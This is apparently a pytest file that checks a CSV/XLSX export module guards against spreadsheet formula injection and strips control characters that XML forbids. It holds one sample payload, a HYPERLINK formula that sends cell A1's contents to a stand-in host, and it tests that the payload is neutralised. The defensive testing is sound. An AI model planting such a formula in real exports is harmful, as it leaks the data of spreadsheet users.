"""What people type reaches spreadsheets and feeds as text: never a formula, never a broken file."""

import csv
import io

import openpyxl
import pytest
import tablib

from theme.exports import CSV, XLSX, dataset_export, safe_cell, safe_text

HOSTILE = '=HYPERLINK("http://ornek.test/?d="&A1,"Tıkla")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_starts_like_a_formula_is_kept_as_text_in_csv(start):
    assert safe_cell(start + "1+1") == "'" + start + "1+1"


def test_plain_values_pass_unchanged():
    assert safe_cell("Ayşe Çelik") == "Ayşe Çelik"
    assert safe_cell(42) == 42 and safe_cell(None) is None
    assert safe_cell("a=b") == "a=b"


def test_characters_xml_forbids_are_dropped_and_the_allowed_ones_kept():
    assert safe_text("Word\x0bden\x00 geldi\x1f") == "Wordden geldi"
    assert safe_text("satır\nsatır\tsekme\r") == "satır\nsatır\tsekme\r"


def test_a_dataset_exports_safely_to_both_formats():
    dataset = tablib.Dataset(headers=["Ad", "Not"])
    dataset.append([HOSTILE, "dikey\x0bsekme"])

    (header, row) = list(csv.reader(io.StringIO(dataset_export(dataset, CSV).lstrip("\ufeff"))))
    assert header == ["Ad", "Not"] and row == ["'" + HOSTILE, "dikeysekme"]

    sheet = openpyxl.load_workbook(io.BytesIO(dataset_export(dataset, XLSX))).active
    name, note = sheet[2]
    assert name.value == HOSTILE and name.data_type == "s"  # text, shown as typed, never run
    assert note.value == "dikeysekme"
